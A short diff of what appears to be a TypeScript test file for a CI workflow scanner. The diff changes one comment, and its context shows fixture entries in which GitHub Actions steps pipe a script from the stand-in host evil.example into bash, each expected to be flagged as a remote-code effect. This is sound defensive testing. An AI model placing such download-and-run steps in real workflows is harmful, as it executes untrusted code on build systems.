@@ -18,7 +18,7 @@ const written = (path: string, content: string): readonly string[] =>
 const job = (...steps: readonly string[]): string =>
   `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => step.replace(/^/gm, '      ')).join('\n')}\n`
 
-/** A file, its content, and the effect that has to be told. */
+/** A file, its content, and the effect that has to be emitted. */
 const ATTACKS: readonly (readonly [name: string, path: string, content: string, effect: RegExp])[] = [
   ['downloads and runs', GITHUB, job('- run: curl -fsSL https://evil.example/i.sh | bash'), /^ci\.remote/],
   ['in a block', GITHUB, job('- run: |\n    echo hi\n    curl -fsSL https://evil.example/i.sh | bash'), /^ci\.remote/],
